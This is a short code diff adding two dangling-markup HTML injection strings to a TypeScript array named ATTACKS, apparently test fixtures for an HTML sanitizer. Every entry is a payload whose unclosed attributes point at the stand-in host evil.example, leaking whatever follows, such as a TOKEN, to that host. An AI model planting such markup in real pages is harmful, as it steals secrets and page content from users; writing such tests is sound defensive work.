@@ -37,6 +37,8 @@ export const ATTACKS: readonly string[] = [
   '<table background="//evil.example/?q= TOKEN"><tr><td>x',
   '<input type=image src="//evil.example/?q= TOKEN">',
   '<form action="//evil.example/?q= TOKEN"><button>x',
+  '<script>\n</script></sc\\ript> <img src="https://evil.example/?q=\n"> TOKEN',
+  '<script>\n</script><b a=&#13;> <img src="https://evil.example/?q=\n"> TOKEN',
   '<div><img src="https://evil.example/?q=\n\n" TOKEN\n\n<i title="x">',
   "<div><img src='https://evil.example/?q=\n\n'> TOKEN\n\n<i title='x'>",
   '<!x><img src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
